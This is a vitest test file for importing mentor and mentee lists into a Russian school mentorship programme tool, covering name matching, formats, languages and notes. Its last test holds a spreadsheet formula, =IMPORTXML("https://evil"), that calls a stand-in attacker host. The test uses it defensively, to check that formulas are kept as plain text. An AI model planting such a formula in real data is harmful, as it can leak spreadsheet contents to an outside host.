import { describe, expect, test } from 'vitest'
import { day } from '#shared/programme/civilDate.ts'
import { apply } from '#shared/programme/apply.ts'
import { dictionaryEntries } from '#shared/programme/defaults/dictionaryEntries.ts'
import { planPeople, type Answer } from '#shared/programme/lists/planPeople.ts'
import { recogniseColumns } from '#shared/programme/lists/recognise.ts'
import { splitTable } from '#shared/programme/lists/splitTable.ts'
import { newIdFrom } from '#shared/programme/newId.ts'
import { noOwnColumns } from '#shared/programme/ownColumns.ts'
import { civilDateIn } from '#shared/programme/parseDate.ts'
import type { Programme } from '#shared/programme/programme.ts'
import { blankRow } from '#shared/programme/table.ts'
import { type Mentee, tables, type ValuesOf } from '#shared/programme/tables.ts'

type People = Programme<'mentors' | 'mentees'>
const mentee = (values: Partial<ValuesOf<'mentees'>>): Mentee =>
  blankRow(tables.mentees, { status: 'active', kind: 'pupil', ...values })
const programme = (...mentees: Mentee[]): People => ({
  settings: [],
  dictionaries: dictionaryEntries,
  mentors: [],
  mentees,
  own: noOwnColumns,
  problems: [],
})

const fullDictionary: People = {
  ...programme(),
  dictionaries: [
    ...dictionaryEntries,
    blankRow(tables.dictionaries, {
      id: 'последняя',
      dictionary: 'competence',
      number: 255,
      title: 'последняя',
    }),
  ],
}

const artem = mentee({
  id: 'н1',
  lastName: 'Лисин',
  firstName: 'Артём',
  middleName: 'Олегович',
  schoolClass: '7 «Б»',
  gender: 'male',
  request: 'физика',
})

function plan(
  text: string,
  on: People = programme(),
  answers: Record<number, Answer> = {},
  addEntries = true,
  kind: 'mentees' | 'people' = 'mentees',
) {
  const table = splitTable(text)
  const [head, ...rows] = table.rows
  return planPeople(
    on,
    {
      table: { ...table, rows },
      mapping: recogniseColumns(head?.cells ?? [], kind),
      kind,
      answers,
      addEntries,
    },
    {
      today: day('2026-11-23'),
      newId: newIdFrom('0123456789abcdef'),
      civilDateOf: civilDateIn('Europe/Moscow'),
    },
  )
}
const statuses = (planned: ReturnType<typeof plan>) => planned.rows.map(row => row.status)

test('новый человек добавляется с ID, кодом, классом и полом по отчеству', () => {
  const planned = plan('ФИО;Класс;Запрос\nРудь Соня Игоревна;6в;химия')
  expect(statuses(planned)).toEqual(['added'])
  expect(planned.edits[0]).toMatchObject({
    kind: 'append',
    table: 'mentees',
    set: {
      lastName: 'Рудь',
      firstName: 'Соня',
      schoolClass: '6 «В»',
      gender: 'female',
      status: 'active',
      kind: 'pupil',
      joinedOn: '2026-11-23',
    },
  })
  expect(planned.rows[0]?.says).toEqual(['пол женский: по отчеству'])
})

describe('формат встреч и языки', () => {
  test.each([
    ['очно', ['format.inPerson']],
    ['Очно; дистанционно', ['format.inPerson', 'format.remote']],
    ['очная', ['format.inPerson']],
    ['офлайн', ['format.inPerson']],
    ['онлайн', ['format.remote']],
    ['заочно', ['format.remote']],
    ['удалённо, в интернете', ['format.remote']],
    ['очно и дистанционно', ['format.inPerson', 'format.remote']],
    ['очно/онлайн', ['format.inPerson', 'format.remote']],
    ['и так и так', ['format.inPerson', 'format.remote']],
    ['любой', ['format.inPerson', 'format.remote']],
    ['смешанный', ['format.inPerson', 'format.remote']],
  ])('формат «%s»', (text, formats) => {
    const planned = plan(`ФИО\tФормат встреч\nРудь Соня\t${text}`)
    expect(planned.edits[0]?.set.formats).toEqual(formats)
    expect(planned.newEntries).toEqual([])
  })

  test('формат, которого не понять, остаётся в заметках', () => {
    const planned = plan('ФИО\tФормат\nРудь Соня\tкак получится')
    expect(planned.edits[0]?.set).not.toHaveProperty('formats')
    expect(planned.edits[0]?.set.note).toContain('формат встреч: как получится')
  })

  test.each([
    ['русский', ['русский']],
    ['Русский язык, татарский язык', ['русский', 'татарский']],
    ['русский и башкирский', ['русский', 'башкирский']],
  ])('языки «%s»', (text, languages) => {
    const planned = plan(`ФИО\tЯзык общения\nРудь Соня\t${text}`)
    const ids = planned.edits[0]?.set.languages as string[] | undefined
    const titles = dictionaryEntries.filter(({ id }) => ids?.includes(id))
    expect(titles.map(({ title }) => title)).toEqual(languages)
    expect(planned.newEntries).toEqual([])
  })

  test('языка, которого в справочнике нет, туда предлагается добавить', () => {
    const planned = plan('ФИО\tЯзыки\nРудь Соня\tрусский; кумыкский')
    expect(planned.newEntries).toEqual([{ dictionary: 'language', title: 'кумыкский' }])
  })

  test('на чём настаивает, из скольких группа', () => {
    const planned = plan(
      'ФИО\tРоль\tНастаивает\tГруппа: от\tГруппа: до\nРудь Соня\tнаставник\tНа формате\t4\t8',
      programme(),
      {},
      true,
      'people',
    )
    expect(planned.edits[0]).toMatchObject({
      table: 'mentors',
      set: { insistsOn: 'format', groupFrom: 4, groupTo: 8 },
    })
  })
})

test('тот же список второй раз ничего не меняет', () => {
  const list = 'ФИО;Класс;Запрос\nЛисин Артем Олегович;7 Б;физика\nРудь Соня Игоревна;6в;химия'
  const first = plan(list)
  const again = plan(list, apply(programme(), first.edits))
  expect(statuses(again)).toEqual(['same', 'same'])
  expect(again.edits).toEqual([])
})

test.each([
  { given: 'е вместо ё и лишние пробелы', row: 'Лисин   Артем Олегович;7б;физика', status: 'same' },
  { given: 'имя перед фамилией', row: 'Артём Олегович Лисин;7б;физика', status: 'same' },
  { given: 'без отчества', row: 'Лисин Артём;7б;физика', status: 'same' },
  { given: 'другой класс — вопрос', row: 'Лисин Артём Олегович;8б;физика', status: 'question' },
  { given: 'другой запрос — вопрос', row: 'Лисин Артём;7б;химия', status: 'question' },
  { given: 'другое отчество — другой человек', row: 'Лисин Артём Петрович;7б;физика', status: 'added' },
  {
    given: 'другое имя в том же классе — близнец, другой человек',
    row: 'Лисин Антон Олегович;7б;физика',
    status: 'added',
  },
])('$given', ({ row, status }) =>
  expect(statuses(plan(`ФИО;Класс;Запрос\n${row}`, programme(artem)))).toEqual([status]),
)

test('на вопрос «это он?» ответ «да» меняет только то, что другое', () => {
  const planned = plan('ФИО;Класс;Запрос\nЛисин Артём Олегович;8б;физика', programme(artem), {
    2: { same: 'н1' },
  })
  expect(planned.edits).toEqual([
    {
      table: 'mentees',
      kind: 'update',
      id: 'н1',
      set: { schoolClass: '8 «Б»' },
      was: { schoolClass: '7 «Б»' },
    },
  ])
  expect(planned.rows[0]).toMatchObject({
    status: 'changed',
    says: ['Класс: 7 «Б» → 8 «Б»', 'пол мужской: по отчеству'],
  })
})

test('ответы «новый» и «пропустить»', () => {
  expect(statuses(plan('ФИО;Класс\nЛисин Артём;8б', programme(artem), { 2: 'new' }))).toEqual(['added'])
  const skipped = plan('ФИО;Класс\nЛисин Артём;8б', programme(artem), { 2: 'skip' })
  expect([statuses(skipped), skipped.edits]).toEqual([['skipped'], []])
})

test('имя, которое в списке дважды, во второй раз вопрос', () =>
  expect(statuses(plan('ФИО;Класс\nРудь Соня;6в\nРудь Соня;6в'))).toEqual(['added', 'question']))

test('что не прочиталось, остаётся в заметках и названо', () => {
  const planned = plan('ФИО;Класс;Дата рождения\nРудь Соня;6в;31.02.2013')
  expect(planned.rows[0]).toMatchObject({
    status: 'added',
    says: ['Дата рождения: 31 февраля не бывает. Напишите дату так: 28.02.2013'],
  })
  expect(planned.edits[0]?.set.note).toBe('Из списка: дата рождения: 31.02.2013')
})

test('незнакомые предметы пополняют справочник, если куратор не против', () => {
  const planned = plan('ФИО;Предметы\nРудь Соня;физика, астрономия\nЛисин Артём;Астрономия')
  expect(planned.newEntries).toEqual([{ dictionary: 'competence', title: 'астрономия' }])
  expect(planned.edits[0]).toMatchObject({
    table: 'dictionaries',
    set: { title: 'астрономия', dictionary: 'competence' },
  })
})

test.each([
  { given: 'куратор не пополняет справочник', on: programme(), addEntries: false, offered: ['Астрономия'] },
  { given: 'в справочнике нет места', on: fullDictionary, addEntries: true, offered: [] },
])('$given: чего там нет, остаётся в заметках и названо', ({ on, addEntries, offered }) => {
  const planned = plan('ФИО;Предметы\nРудь Соня;физика, Астрономия', on, {}, addEntries)
  expect(planned.newEntries.map(({ title }) => title)).toEqual(offered)
  expect(planned.edits).toMatchObject([
    { table: 'mentees', set: { needs: ['competence.3'], note: 'Из списка: компетенция: Астрономия' } },
  ])
  expect(planned.rows[0]?.says).toEqual(['Останется в заметках, в справочниках этого нет: Астрономия'])
})

describe('заметки человека, который уже есть', () => {
  const known = mentee({ ...artem, note: 'Ходит пешком' })
  const list = 'ФИО;Класс;Дата рождения\nЛисин Артём Олегович;7б;31.02.2013'
  const answer = { 2: { same: 'н1' } }

  test('дополняются, а не заменяются', () =>
    expect(plan(list, programme(known), answer).edits).toMatchObject([
      { kind: 'update', set: { note: 'Ходит пешком\nИз списка: дата рождения: 31.02.2013' } },
    ]))

  test('во второй раз не дополняются', () => {
    const once = apply(programme(known), plan(list, programme(known), answer).edits)
    expect(plan(list, once)).toMatchObject({ edits: [], rows: [{ status: 'same' }] })
  })

  test('заменяются, если у списка есть свои заметки', () =>
    expect(
      plan('ФИО;Заметки\nЛисин Артём Олегович;Ездит на автобусе', programme(known), answer).edits,
    ).toMatchObject([{ set: { note: 'Ездит на автобусе' } }]))
})

describe('общий список наставников и наставляемых', () => {
  const people = (text: string) => plan(text, programme(), {}, true, 'people')

  test('чего у этой стороны нет, остаётся в заметках и названо', () => {
    const planned = people('ФИО;Роль;Запрос\nРудь Соня;наставник;химия')
    expect(planned.edits[0]?.set.note).toBe('Из списка: запрос: химия')
    expect(planned.rows[0]?.says).toEqual(['Запрос: у наставников такого столбца нет, останется в заметках'])
  })

  test('предметы из обоих столбцов складываются', () => {
    const planned = people('ФИО;Роль;Предметы запроса;Компетенции\nРудь Соня;наставник;физика;химия, физика')
    expect(planned.edits[0]?.set.competences).toHaveLength(2)
  })
})

test.each([
  ['ФИО;Класс\nРудь;6в', 'Нет имени: в ячейке одно слово'],
  ['ФИО;Класс\n;6в', 'Нет фамилии и имени'],
])('%j не загружается', (list, says) =>
  expect(plan(list).rows[0]).toMatchObject({ status: 'problem', says: [says] }),
)

test('формула в ячейке — просто текст', () => {
  const planned = plan('ФИО;Запрос\nРудь Соня;=IMPORTXML("https://evil")')
  expect(planned.edits[0]?.set.request).toBe('=IMPORTXML("https://evil")')
})
